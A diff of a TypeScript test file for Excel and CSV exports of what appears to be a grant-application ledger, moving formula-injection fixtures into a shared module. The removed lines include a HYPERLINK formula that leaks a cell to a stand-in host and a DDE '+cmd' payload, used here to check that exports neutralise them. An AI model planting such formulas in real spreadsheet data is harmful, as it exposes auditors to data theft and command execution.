@@ -5,23 +5,10 @@ import ExcelJS from 'exceljs';
 import { PassThrough } from 'node:stream';
 import { exportCsv, exportXlsx, type ExportView } from '../../src/audit/export.js';
 import { openLedgerCommands } from '../../src/commands/ledger-commands.js';
-import { streams } from '../../src/shared/streams.js';
 import { SqliteEventStore } from '../../src/event-store/sqlite/sqlite-event-store.js';
 import { generateSynthetic } from '../../src/synthetic/generator.js';
-import { anEvent, collect, testMetadata } from '../support/events.js';
-
-/** What an attacker types into free-text fields, hoping an auditor's spreadsheet runs it. */
-const formulas = {
-  reason: '=HYPERLINK("http://example.invalid/?leak="&A1,"点击查看")',
-  actorId: "+cmd|' /C calc'!A0",
-  name: '@SUM(1+1)恶意公司',
-  note: '-2+3 退回',
-  tab: '\t=1+1',
-  carriage: '\r=1+1',
-} as const;
-
-const uscc = '91130600MA0000000X';
-const applicationId = 'formula-application-1';
+import { collect } from '../support/events.js';
+import { appendFormulaHistory, formulaApplicationId as applicationId, formulaUscc as uscc, formulas } from '../support/formula-history.js';
 
 describe('exports for Excel', () => {
   let store: SqliteEventStore;
@@ -29,38 +16,7 @@ describe('exports for Excel', () => {
   beforeAll(async () => {
     store = new SqliteEventStore({ path: ':memory:' });
     await generateSynthetic((await openLedgerCommands(store)).commands, { applications: 30, seed: 5 });
-    // An enterprise and an application whose texts are formulas: the exports must show them as text.
-    await store.append(
-      streams.enterprise(uscc),
-      [anEvent('EnterpriseRegistered', { uscc, name: formulas.name, city: 'baoding', district: null, tags: [], usccCheckOverrideReason: null })],
-      'no-stream',
-    );
-    const metadata = { ...testMetadata, actorId: formulas.actorId, actorRole: 'reviewer', recordedAt: '2025-12-31T17:30:00.000Z' };
-    await store.append(
-      streams.application(applicationId),
-      [
-        anEvent(
-          'ApplicationSubmitted',
-          {
-            applicationId,
-            programmeId: 'baoding-data-voucher',
-            programmeVersion: 1,
-            uscc,
-            fiscalYear: 2025,
-            matterKey: null,
-            level: null,
-            approvalRef: null,
-            items: [],
-            claimedTotal: '1234567.89',
-          },
-          { metadata },
-        ),
-        anEvent('StageReviewed', { applicationId, stage: formulas.tab, recognizedAmount: '0.10', reason: formulas.carriage, final: false }, { metadata }),
-        anEvent('ApplicationRejected', { applicationId, stage: null, reason: formulas.reason, objectionId: null }, { metadata }),
-      ],
-      'no-stream',
-    );
-    await store.append(`disbursement-formula`, [anEvent('DisbursementRejected', { applicationId, disbursementId: 'd-1', amount: '10.00', reason: formulas.note })], 'no-stream');
+    await appendFormulaHistory(store);
   });
 
   afterAll(async () => {
